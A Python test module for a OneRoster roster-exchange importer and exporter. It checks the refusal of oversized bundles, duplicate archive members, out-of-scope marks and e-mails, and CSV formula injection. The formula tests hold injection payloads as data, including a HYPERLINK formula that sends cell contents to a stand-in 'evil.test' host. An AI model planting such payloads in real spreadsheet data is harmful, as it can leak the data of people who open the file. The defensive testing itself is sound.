"""OneRoster exchange against hostile or mistaken bundles: oversized members, formulas, misplaced marks,
e-mail addresses of people outside the importer's reach, duplicate archive members.

The deployments here are empty ones of their own (``build_target``), with unique slugs, e-mails and codes.
"""

from __future__ import annotations

import csv
import io
import secrets
import tracemalloc
import warnings
import zipfile
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from core.scope import Scope
from tenants.oneroster import bundle as bundle_module
from tenants.oneroster.bundle import read_bundle
from tenants.oneroster.exporter import pack
from tenants.oneroster.spec import SPECS_12
from tests.conftest import World
from tests.test_oneroster import ADMIN, Target, build_target, minimal_files, post_bundle, replace, unzip, zip_files


@pytest.fixture
async def deployment(world: World, tmp_path: Path) -> AsyncIterator[Target]:
    """An empty deployment of its own, on the world's backend."""
    target = await build_target(world.backend, tmp_path)
    try:
        yield target
    finally:
        await target.close()


def tag() -> str:
    """A short unique tag for slugs, e-mails and codes."""
    return secrets.token_hex(3)


def pupil_code() -> str:
    """A unique national pupil code (a letter and nine digits)."""
    return f"H{secrets.randbelow(10**9):09d}"


def unique_files(t: str) -> dict[str, str]:
    """The minimal 1.2 bundle with its own org slugs and codes, e-mails and pupil codes."""
    files = minimal_files()
    codes = {"B100000001": pupil_code(), "B100000002": pupil_code()}
    out = {}
    for name, text in files.items():
        text = text.replace("school-1", f"sch-{t}").replace("dist-1", f"dst-{t}")
        text = text.replace(",901,", f",9{t},").replace("90101X", f"S{t}")
        text = text.replace("@bundle.test", f"@{t}.test")
        for old, new in codes.items():
            text = text.replace(old, new)
        out[name] = text
    return out


def csv_text(name: str, rows: list[list[str]]) -> str:
    """A 1.2 file: its spec header and rows (missing cells blank)."""
    header = SPECS_12[name].header
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(header)
    for row in rows:
        writer.writerow([*row, *[""] * (len(header) - len(row))])
    return out.getvalue()


def bulk(files: dict[str, str], *names: str) -> dict[str, str]:
    """Declare files as bulk in the manifest."""
    for name in names:
        files = replace(files, "manifest.csv", f"file.{name},absent", f"file.{name},bulk")
    return files


async def new_region(target: Target, t: str) -> tuple[str, str]:
    """A region of its own and its administrator: ``(slug, e-mail)``."""
    slug = f"region-{t}"
    response = await target.call(
        "POST",
        "/api/v1/tenants",
        as_=ADMIN,
        tenant="platform",
        json={"parent": "platform", "kind": "region", "slug": slug, "name_fr": f"Région {t}"},
    )
    assert response.status_code == 201, response.text
    return slug, await target.add_person(f"admin-{t}@region.test", "region_admin", slug)


async def new_school(target: Target, region: str, t: str) -> str:
    """A province and a school under a region; returns the school's slug."""
    for body in (
        {"parent": region, "kind": "province", "slug": f"prov-{t}", "name_fr": f"Province {t}"},
        {"parent": f"prov-{t}", "kind": "school", "slug": f"ecole-{t}", "name_fr": f"École {t}"},
    ):
        response = await target.call("POST", "/api/v1/tenants", as_=ADMIN, tenant="platform", json=body)
        assert response.status_code == 201, response.text
    return f"ecole-{t}"


# --------------------------------------------------------------------------- 1. oversized members


def test_a_member_past_max_rows_stops_reading_at_the_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    """Reading stops at row MAX_ROWS + 1: what follows (here a broken quote) is never parsed, nor kept."""
    monkeypatch.setattr(bundle_module, "MAX_ROWS", 1000)
    files = minimal_files()
    header = files["orgs.csv"].splitlines()[0]
    orgs = header + "\n" + "x,,,X,school,,\n" * 1_000_000 + '"never closed\n'
    data = zip_files({**files, "orgs.csv": orgs})
    tracemalloc.start()
    try:
        found, issues = read_bundle(data)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert found is None
    errors = [i for i in issues if i.severity == "error"]
    assert [(i.file, i.row) for i in errors] == [("orgs.csv", 1002)], errors[:3]
    assert errors[0].message == "more than 1000 rows: at most 1000 per file (reading stopped)"
    assert not any("not a valid CSV" in i.message for i in issues), "the rest of the file was not parsed"
    # Unpacking the 15 MB member and its text, then 1000 rows; a million parsed rows would take hundreds of MB.
    assert peak < 4 * len(orgs), peak


def test_the_limit_itself_is_accepted(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(bundle_module, "MAX_ROWS", 4)
    found, issues = read_bundle(zip_files(minimal_files()))
    assert found is not None, issues
    assert len(found.rows["users"]) == len(found.rows["roles"]) == 4
    extra = "".join(f"school-{n},,,Lycée {n},school,,dist-1\n" for n in (7, 8, 9))
    five = replace(minimal_files(), "orgs.csv", "school-1,,,Lycée Test", extra + "school-1,,,Lycée Test")
    found, issues = read_bundle(zip_files(five))
    assert found is None
    assert [(i.file, i.row, i.message) for i in issues if i.severity == "error"] == [
        ("orgs.csv", 6, "more than 4 rows: at most 4 per file (reading stopped)")
    ]


def test_endless_blank_lines_and_an_endless_manifest_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(bundle_module, "MAX_ROWS", 10)
    files = minimal_files()
    found, issues = read_bundle(zip_files({**files, "orgs.csv": files["orgs.csv"] + "\n" * 50}))
    assert found is None
    assert [(i.file, i.message) for i in issues if i.severity == "error"] == [
        ("orgs.csv", "more than 10 empty lines: reading stopped")
    ]
    manifest = files["manifest.csv"] + "".join(f"x.{n},1\n" for n in range(500))
    found, issues = read_bundle(zip_files({**files, "manifest.csv": manifest}))
    assert found is None
    assert [(i.file, i.message) for i in issues if i.severity == "error"] == [
        ("manifest.csv", "more than 200 manifest rows")
    ]


def test_a_row_with_ten_thousand_cells_is_refused_before_it_is_built() -> None:
    files = minimal_files()
    wide = "u-x,,,true,x,,A,B" + ",z" * 10_000
    data = zip_files(replace(files, "users.csv", "u-t1,", wide + "\r\nu-t1,"))
    found, issues = read_bundle(data)
    assert found is None
    errors = [i for i in issues if i.severity == "error"]
    assert [(i.file, i.row) for i in errors] == [("users.csv", 2)], errors[:3]
    assert "row 2 has more than 1022 cells: reading stopped" in errors[0].message
    header = ",".join(f"metadata.c{n}" for n in range(10_000))
    found, issues = read_bundle(zip_files({**files, "orgs.csv": header + "\n"}))
    assert found is None
    assert [(i.file, i.row) for i in issues if i.severity == "error"] == [("orgs.csv", 1)]
    assert "row 1 has more than 200 cells" in issues[-1].message


# --------------------------------------------------------------------------- 5. duplicate members


def duplicate_zip(files: dict[str, str], name: str, second: str) -> bytes:
    """A zip holding ``name`` twice: the bundle's copy, then ``second``."""
    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)
        with zipfile.ZipFile(buffer, "w") as archive:
            for member, text in files.items():
                archive.writestr(member, text)
            archive.writestr(name, second)
    return buffer.getvalue()


def test_an_archive_naming_a_member_twice_is_refused() -> None:
    files = minimal_files()
    data = duplicate_zip(files, "users.csv", files["users.csv"].replace("Nora", "Nadia"))
    found, issues = read_bundle(data)
    assert found is None
    assert [(i.file, i.row, i.severity) for i in issues] == [("users.csv", 0, "error")]
    assert issues[0].message == (
        "users.csv is in the archive 2 times: which copy is meant is ambiguous, so nothing is read"
    )


async def test_a_duplicate_member_upload_is_a_422_and_writes_nothing(deployment: Target) -> None:
    t = tag()
    region, admin = await new_region(deployment, t)
    files = unique_files(t)
    before = await data_counts(deployment)
    response = await post_bundle(
        deployment.call, duplicate_zip(files, "orgs.csv", files["orgs.csv"]), as_=admin, tenant=region
    )
    assert response.status_code == 422, response.text
    assert [(e["file"], e["row"]) for e in response.json()["errors"]] == [("orgs.csv", 0)]
    assert await data_counts(deployment) == before


# --------------------------------------------------------------------------- 2. formulas


@pytest.mark.parametrize(
    ("file", "old", "new", "row", "column"),
    [
        ("users.csv", "Nora,Haddad", '=HYPERLINK("http://evil.test/?x"&A1;"Nora"),Haddad', 2, "givenName"),
        ("users.csv", "Sara,Bennis", "Sara,+Bennis", 4, "familyName"),
        ("orgs.csv", "Lycée Test", "@SUM(A1:A9)", 3, "name"),
        ("classes.csv", "k1,,,TC-1,", "k1,,,-2+3,", 2, "title"),
        ("courses.csv", "Tronc commun", "\t=1+1", 2, "title"),
        ("orgs.csv", "901,\n", "901,,=2*3\n", 2, "metadata.nameAr"),
    ],
)
def test_free_text_that_a_spreadsheet_would_run_is_refused(
    file: str, old: str, new: str, row: int, column: str
) -> None:
    files = replace(minimal_files(), file, old, new)
    if column == "metadata.nameAr":
        files = replace(files, "orgs.csv", "parentSourcedId", "parentSourcedId,metadata.nameAr")
        files = replace(files, "orgs.csv", "90101X,dist-1", "90101X,dist-1,Lycee")
    found, issues = read_bundle(zip_files(files))
    assert found is None
    errors = [(i.file, i.row, i.column) for i in issues if i.severity == "error"]
    assert errors == [(file, row, column)], issues
    message = next(i.message for i in issues if i.severity == "error")
    assert message.startswith(f"{column} starts with") and "formula" in message


def test_identifiers_and_quoted_text_are_not_formulas() -> None:
    files = replace(minimal_files(), "users.csv", "Nora,Haddad", "'=Nora,'-Haddad")
    files = replace(files, "orgs.csv", "dist-1,", "-dist-1,")
    files = replace(files, "orgs.csv", ",dist-1", ",-dist-1")
    files = replace(
        files, "orgs.csv", "dist-1,,,Direction Test,district,901,", "dist-1,,,Direction Test,district,-901,"
    )
    found, issues = read_bundle(zip_files(files))
    assert found is not None, issues
    assert found.by_id("users")["u-t1"]["givenName"] == "'=Nora"


def test_the_export_neutralises_free_text_and_leaves_identifiers_alone() -> None:
    evil = '=HYPERLINK("http://evil.test","x")'
    data = pack(
        {
            "orgs": [{"sourcedId": "s-1", "name": evil, "type": "school", "identifier": "-7", "metadata.nameAr": "+1"}],
            "classes": [
                {
                    "sourcedId": "c-1",
                    "title": "@x",
                    "classCode": "-A",
                    "courseSourcedId": "co-1",
                    "classType": "homeroom",
                    "schoolSourcedId": "s-1",
                    "termSourcedIds": "t-1",
                    "metadata.track": "=T",
                }
            ],
            "users": [
                {"sourcedId": "u-1", "givenName": " =1+1", "familyName": "Ali", "email": "-a@x.test", "username": "-a"}
            ],
        }
    )
    files = unzip(data)
    org, klass, user = files["orgs"][0], files["classes"][0], files["users"][0]
    assert (org["name"], org["metadata.nameAr"], org["identifier"]) == ("'" + evil, "'+1", "-7")
    assert (klass["title"], klass["classCode"], klass["metadata.track"]) == ("'@x", "'-A", "'=T")
    assert (klass["sourcedId"], klass["schoolSourcedId"]) == ("c-1", "s-1")
    assert (user["givenName"], user["familyName"]) == ("' =1+1", "Ali")
    assert (user["email"], user["username"]) == ("-a@x.test", "-a")


async def test_an_exported_formula_name_comes_back_quoted_and_harmless(deployment: Target) -> None:
    t = tag()
    region, admin = await new_region(deployment, t)
    files = unique_files(t)
    done = await post_bundle(deployment.call, zip_files(files), as_=admin, tenant=region)
    assert done.status_code == 201, done.text
    # A name typed elsewhere in the product that a spreadsheet would run.
    school = await deployment.sql("SELECT id FROM tenant WHERE slug = {}", f"sch-{t}")
    async with deployment.services.db.scoped(Scope.everything()):
        await deployment.services.db.execute(
            "UPDATE student SET first_name = {} WHERE school_id = {} AND first_name = 'Ali'", "=1+1", school
        )
    exported = await deployment.call("GET", "/api/v1/oneroster/export", as_=admin, tenant=region)
    assert exported.status_code == 200, exported.text
    users = {r["familyName"] + r["givenName"]: r for r in unzip(exported.content)["users"]}
    assert users["Bennis'=1+1"]["givenName"] == "'=1+1"
    again = await post_bundle(deployment.call, exported.content, as_=admin, tenant=region)
    assert again.status_code == 201, again.text
    assert (
        await deployment.sql("SELECT COUNT(*) FROM student WHERE school_id = {} AND first_name = {}", school, "'=1+1")
        == 1
    )


# --------------------------------------------------------------------------- 3. marks


def gradebook_files(t: str, results: list[tuple[str, str]]) -> dict[str, str]:
    """The unique bundle plus a second class (TC-2, pupil 2), a pupil of a second school, one assessment in
    TC-1 mathematics and the given ``(result sourcedId, pupil sourcedId)`` results of 12.5 each."""
    files = bulk(unique_files(t), "categories", "lineItems", "results")
    school, other = f"sch-{t}", f"sch2-{t}"
    third = pupil_code()
    files = replace(
        files,
        "orgs.csv",
        f"{school},,,Lycée Test,school,S{t},dst-{t}",
        f"{school},,,Lycée Test,school,S{t},dst-{t}\n{other},,,Collège Test,school,C{t},dst-{t}",
    )
    files = replace(
        files,
        "classes.csv",
        "k1-math,",
        f'k2,,,TC-2,10,c-tc,TC-2,homeroom,,{school},"s1,s2",,,,\nk1-math,',
    )
    files = replace(files, "enrollments.csv", f"e2,,,k1,{school},u-p2", f"e2,,,k2,{school},u-p2")
    files = replace(files, "roles.csv", "\nr4,", f"\nr5,,,u-p3,primary,student,,,{other},\nr4,")
    files = replace(
        files, "users.csv", "\nu-g1,", f"\nu-p3,,,true,{third},,Lina,Alami,,{third},,,,,10,,,,,,{other},\nu-g1,"
    )
    files["categories.csv"] = csv_text("categories", [["cat-cc", "", "", "Contrôle continu"]])
    files["lineItems.csv"] = csv_text(
        "lineItems",
        [["li-1", "", "", "Devoir 1", "", "2026-10-05", "2026-10-05", "k1-math", "cat-cc", "s1", "0", "20", school]],
    )
    files["results.csv"] = csv_text(
        "results", [[sid, "", "", "li-1", pupil, "fully graded", "12.5", "2026-10-06"] for sid, pupil in results]
    )
    return files


async def test_a_mark_for_a_pupil_outside_the_class_or_school_is_refused(deployment: Target) -> None:
    t = tag()
    region, admin = await new_region(deployment, t)
    before = await data_counts(deployment)
    wrong = gradebook_files(t, [("res-1", "u-p1"), ("res-2", "u-p2"), ("res-3", "u-p3")])
    response = await post_bundle(deployment.call, zip_files(wrong), as_=admin, tenant=region)
    assert response.status_code == 422, response.text
    errors = response.json()["errors"]
    assert [(e["file"], e["row"], e["column"]) for e in errors] == [
        ("results.csv", 3, "studentSourcedId"),
        ("results.csv", 4, "studentSourcedId"),
    ], errors
    assert errors[0]["message"] == "pupil 'u-p2' is not enrolled in the class of lineItem 'li-1'"
    assert errors[1]["message"] == "pupil 'u-p3' belongs to another school than the class of lineItem 'li-1'"
    assert await data_counts(deployment) == before

    # A result naming another class than its lineItem's is refused too.
    crossed = gradebook_files(t, [("res-1", "u-p1")])
    crossed = replace(crossed, "results.csv", "2026-10-06,,,", "2026-10-06,,,k2")
    response = await post_bundle(deployment.call, zip_files(crossed), as_=admin, tenant=region)
    assert response.status_code == 422, response.text
    assert [(e["row"], e["column"]) for e in response.json()["errors"]] == [(2, "classSourcedId")]
    assert await data_counts(deployment) == before

    # The pupil of the class gets the mark.
    right = gradebook_files(t, [("res-1", "u-p1")])
    response = await post_bundle(deployment.call, zip_files(right), as_=admin, tenant=region)
    assert response.status_code == 201, response.text
    marks = await deployment.rows(
        "SELECT s.first_name, c.name, m.score FROM grade_mark m JOIN student s ON s.id = m.student_id "
        "JOIN grade_assessment a ON a.id = m.assessment_id JOIN school_class c ON c.id = a.class_id "
        "JOIN tenant sc ON sc.id = m.school_id WHERE sc.slug = {}",
        f"sch-{t}",
    )
    assert [(m["first_name"], m["name"], float(m["score"])) for m in marks] == [("Ali", "TC-1", 12.5)]


# --------------------------------------------------------------------------- 4. people by e-mail


async def test_an_address_of_someone_outside_the_importers_reach_is_refused(deployment: Target) -> None:
    t, elsewhere = tag(), tag()
    region, admin = await new_region(deployment, t)
    other_region, _ = await new_region(deployment, elsewhere)
    foreign_school = await new_school(deployment, other_region, elsewhere)
    foreign = await deployment.add_person(f"teacher-{elsewhere}@other.test", "teacher", foreign_school)
    files = replace(unique_files(t), "users.csv", f"t1@{t}.test", foreign)
    before = await data_counts(deployment)
    for dry_run in (True, False):
        response = await post_bundle(deployment.call, zip_files(files), as_=admin, tenant=region, dry_run=dry_run)
        assert response.status_code == 422, response.text
        report = response.json()
        assert [(e["file"], e["row"], e["column"]) for e in report["errors"]] == [("users.csv", 2, "email")]
        message = report["errors"][0]["message"]
        assert message == (
            "user 'u-t1': this e-mail address cannot be used by this import; ask the platform administrator"
        )
        assert foreign_school not in response.text and other_region not in response.text
        assert report["counts"] == {}
    assert await data_counts(deployment) == before
    roles = await deployment.rows(
        "SELECT m.role FROM membership m JOIN person p ON p.id = m.person_id WHERE p.email = {}", foreign
    )
    assert [r["role"] for r in roles] == ["teacher"]

    # The platform administrator reaches everyone: the same bundle links the person.
    response = await post_bundle(deployment.call, zip_files(files), as_=ADMIN, tenant=region)
    assert response.status_code == 201, response.text
    assert response.json()["counts"]["people"]["linked"] == 1


async def test_a_person_inside_the_reach_is_linked_and_every_new_role_is_audited(deployment: Target) -> None:
    t = tag()
    region, admin = await new_region(deployment, t)
    own_school = await new_school(deployment, region, t)
    colleague = await deployment.add_person(f"teacher-{t}@own.test", "teacher", own_school)
    files = replace(unique_files(t), "users.csv", f"t1@{t}.test", colleague)
    response = await post_bundle(deployment.call, zip_files(files), as_=admin, tenant=region)
    assert response.status_code == 201, response.text
    counts = response.json()["counts"]
    assert counts["people"] == {"created": 1, "updated": 0, "linked": 1}
    school = await deployment.sql("SELECT id FROM tenant WHERE slug = {}", f"sch-{t}")
    added = await deployment.rows(
        "SELECT m.person_id, m.role FROM membership m WHERE m.tenant_id = {} ORDER BY m.person_id, m.role", school
    )
    people = {
        r["email"]: r["id"]
        for r in await deployment.rows(
            "SELECT id, email FROM person WHERE email IN ({}, {})", colleague, f"g1@{t}.test"
        )
    }
    assert {(r["person_id"], r["role"]) for r in added} == {
        (people[colleague], "teacher"),
        (people[f"g1@{t}.test"], "parent"),
    }
    actor = await deployment.sql("SELECT id FROM person WHERE email = {}", admin)
    audited = await deployment.rows(
        "SELECT object_id, actor_id, after FROM audit_log WHERE action = 'membership.add' AND tenant_id = {}", school
    )
    assert sorted((int(a["object_id"]), a["actor_id"]) for a in audited) == sorted(
        (r["person_id"], actor) for r in added
    )
    assert counts["memberships"]["created"] == len(added)


# --------------------------------------------------------------------------- 5. a guardian's relation per pupil


def with_agent_relations(files: dict[str, str], relations: dict[str, str]) -> dict[str, str]:
    """users.csv with a ``metadata.agentRelations`` column: ``{pupil sourcedId: cell}``, the other rows blank."""
    lines = files["users.csv"].splitlines()
    out = [lines[0] + ",metadata.agentRelations"]
    for line in lines[1:]:
        out.append(line + "," + relations.get(line.split(",", 1)[0], ""))
    return {**files, "users.csv": "\r\n".join(out) + "\r\n"}


async def data_counts(target: Target) -> dict[str, int]:
    """Row counts of the roster and mark tables (without the import's own bookkeeping: each import is audited and
    remembers the sourcedIds it met)."""
    return {k: v for k, v in (await target.counts()).items() if k not in {"audit_log", "oneroster_link"}}


async def link_relations(target: Target, t: str) -> dict[tuple[str, str], str]:
    """``(guardian e-mail, pupil first name) → relation`` for the links of the tag's school."""
    rows = await target.rows(
        "SELECT p.email, s.first_name, g.relation FROM guardianship g JOIN student s ON s.id = g.student_id "
        "JOIN person p ON p.id = g.person_id JOIN tenant sc ON sc.id = g.school_id WHERE sc.slug = {}",
        f"sch-{t}",
    )
    return {(r["email"], r["first_name"]): r["relation"] for r in rows}


async def test_a_guardians_relation_travels_per_pupil_and_a_reimport_changes_nothing(
    world: World, deployment: Target, tmp_path: Path
) -> None:
    t = tag()
    region, admin = await new_region(deployment, t)
    guardian = f"g1@{t}.test"
    files = with_agent_relations(unique_files(t), {"u-p1": "u-g1=mother", "u-p2": "u-g1=guardian"})
    done = await post_bundle(deployment.call, zip_files(files), as_=admin, tenant=region)
    assert done.status_code == 201, done.text
    assert not done.json()["warnings"], done.json()["warnings"]
    expected = {(guardian, "Ali"): "mother", (guardian, "Sara"): "guardian"}
    assert await link_relations(deployment, t) == expected

    exported = await deployment.call("GET", "/api/v1/oneroster/export", as_=admin, tenant=region)
    assert exported.status_code == 200, exported.text
    users = unzip(exported.content)["users"]
    by_name = {r["givenName"]: r for r in users}
    g_sid = by_name["Omar"]["sourcedId"]
    assert by_name["Ali"]["metadata.agentRelations"] == f"{g_sid}=mother"
    assert by_name["Sara"]["metadata.agentRelations"] == f"{g_sid}=guardian"
    assert by_name["Omar"]["metadata.relation"] == "", "two relations: none is the guardian's own"

    # Back into the same deployment: nothing created, nothing rewritten, nothing to report.
    before = await data_counts(deployment)
    again = await post_bundle(deployment.call, exported.content, as_=admin, tenant=region)
    assert again.status_code == 201, again.text
    report = again.json()
    assert not report["warnings"], report["warnings"]
    assert report["counts"].get("guardianships", {}).get("created", 0) == 0
    assert report["counts"].get("guardianships", {}).get("updated", 0) == 0
    assert await data_counts(deployment) == before
    assert await link_relations(deployment, t) == expected

    # Into an empty deployment: each link keeps its own relation.
    other = await build_target(world.backend, tmp_path / "copy")
    try:
        copied = await post_bundle(other.call, exported.content, as_=ADMIN, tenant="platform")
        assert copied.status_code == 201, copied.text
        assert await link_relations(other, t) == expected
    finally:
        await other.close()


async def test_a_changed_relation_is_reported_and_a_missing_one_rewrites_nothing(deployment: Target) -> None:
    t = tag()
    region, admin = await new_region(deployment, t)
    guardian = f"g1@{t}.test"
    first = with_agent_relations(unique_files(t), {"u-p1": "u-g1=mother", "u-p2": "u-g1=guardian"})
    assert (await post_bundle(deployment.call, zip_files(first), as_=admin, tenant=region)).status_code == 201

    # A bundle that names no relation (a third party's): the existing links are left as they are.
    plain = await post_bundle(deployment.call, zip_files(unique_files(t)), as_=admin, tenant=region)
    assert plain.status_code == 201, plain.text
    assert not plain.json()["warnings"], plain.json()["warnings"]
    assert await link_relations(deployment, t) == {(guardian, "Ali"): "mother", (guardian, "Sara"): "guardian"}

    # A bundle that names another relation for one link: that link changes, and the change is reported.
    changed = with_agent_relations(unique_files(t), {"u-p1": "u-g1=mother", "u-p2": "u-g1=father"})
    response = await post_bundle(deployment.call, zip_files(changed), as_=admin, tenant=region)
    assert response.status_code == 201, response.text
    report = response.json()
    assert report["counts"]["guardianships"]["updated"] == 1
    assert [(w["file"], w["column"], w["message"]) for w in report["warnings"]] == [
        ("users.csv", "metadata.relation", "the relation of 'u-g1' to pupil 'u-p2' changes from guardian to father")
    ]
    assert await link_relations(deployment, t) == {(guardian, "Ali"): "mother", (guardian, "Sara"): "father"}

    # A pair naming someone who is not the pupil's agent, or an unknown relation, is reported and ignored.
    odd = with_agent_relations(unique_files(t), {"u-p1": "u-t1=mother", "u-p2": "u-g1=aunt"})
    response = await post_bundle(deployment.call, zip_files(odd), as_=admin, tenant=region)
    assert response.status_code == 201, response.text
    choices = "u-g1=father, u-g1=guardian, u-g1=mother"
    assert sorted((w["row"], w["column"], w["message"]) for w in response.json()["warnings"]) == [
        (3, "metadata.agentRelations", f"'u-t1=mother' is not one of {choices}"),
        (4, "metadata.agentRelations", f"'u-g1=aunt' is not one of {choices}"),
    ]
    assert await link_relations(deployment, t) == {(guardian, "Ali"): "mother", (guardian, "Sara"): "father"}


# --------------------------------------------------------------------------- 6. mark sheets past draft


async def marks_of(target: Target, t: str) -> list[tuple[str, float | None, str]]:
    """``(first name, score, status)`` of the marks of the tag's school."""
    rows = await target.rows(
        "SELECT s.first_name, m.score, m.status FROM grade_mark m JOIN student s ON s.id = m.student_id "
        "JOIN tenant sc ON sc.id = m.school_id WHERE sc.slug = {} ORDER BY s.first_name",
        f"sch-{t}",
    )
    return [(r["first_name"], None if r["score"] is None else float(r["score"]), r["status"]) for r in rows]


@pytest.mark.parametrize("state", ["validated", "published"])
async def test_a_sheet_past_draft_takes_its_own_marks_back_and_refuses_changes(deployment: Target, state: str) -> None:
    t = tag()
    region, admin = await new_region(deployment, t)
    files = gradebook_files(t, [("res-1", "u-p1")])
    done = await post_bundle(deployment.call, zip_files(files), as_=admin, tenant=region)
    assert done.status_code == 201, done.text
    school = await deployment.sql("SELECT id FROM tenant WHERE slug = {}", f"sch-{t}")
    async with deployment.services.db.scoped(Scope.everything()):
        await deployment.services.db.execute("UPDATE grade_sheet SET state = {} WHERE school_id = {}", state, school)
    exported = await deployment.call("GET", "/api/v1/oneroster/export", as_=admin, tenant=region)
    assert exported.status_code == 200, exported.text
    assert [float(r["score"]) for r in unzip(exported.content)["results"]] == [12.5]

    # The region's own export, and the bundle the marks came from: identical marks are no change.
    before = await data_counts(deployment)
    for bundle in (exported.content, zip_files(files)):
        again = await post_bundle(deployment.call, bundle, as_=admin, tenant=region)
        assert again.status_code == 201, again.text
        report = again.json()
        assert report["ok"] and not report["errors"], report["errors"]
        assert report["counts"].get("results", {}).get("updated", 0) == 0
        assert report["counts"].get("results", {}).get("created", 0) == 0
        assert await data_counts(deployment) == before
        assert await marks_of(deployment, t) == [("Ali", 12.5, "present")]

    # A different mark, a mark for another pupil, or a changed lineItem of that sheet is refused; nothing is written.
    other_score = replace(files, "results.csv", ",12.5,", ",14,")
    exempt = replace(files, "results.csv", "fully graded,12.5", "exempt,")
    retitled = replace(files, "lineItems.csv", "Devoir 1", "Devoir 1 bis")
    for bundle, column in ((other_score, "score"), (exempt, "score"), (retitled, "classSourcedId")):
        response = await post_bundle(deployment.call, zip_files(bundle), as_=admin, tenant=region)
        assert response.status_code == 422, response.text
        errors = response.json()["errors"]
        assert [(e["column"], e["message"]) for e in errors] == [
            (column, f"the mark sheet is {state}: not overwritten")
        ], errors
        assert await data_counts(deployment) == before
        assert await marks_of(deployment, t) == [("Ali", 12.5, "present")]


async def test_a_draft_sheet_still_takes_a_changed_mark(deployment: Target) -> None:
    t = tag()
    region, admin = await new_region(deployment, t)
    files = gradebook_files(t, [("res-1", "u-p1")])
    assert (await post_bundle(deployment.call, zip_files(files), as_=admin, tenant=region)).status_code == 201
    same = await post_bundle(deployment.call, zip_files(files), as_=admin, tenant=region)
    assert same.status_code == 201, same.text
    assert same.json()["counts"].get("results", {}).get("updated", 0) == 0, "an identical mark is no update"
    changed = await post_bundle(
        deployment.call, zip_files(replace(files, "results.csv", ",12.5,", ",14,")), as_=admin, tenant=region
    )
    assert changed.status_code == 201, changed.text
    assert changed.json()["counts"]["results"]["updated"] == 1
    assert await marks_of(deployment, t) == [("Ali", 14.0, "present")]
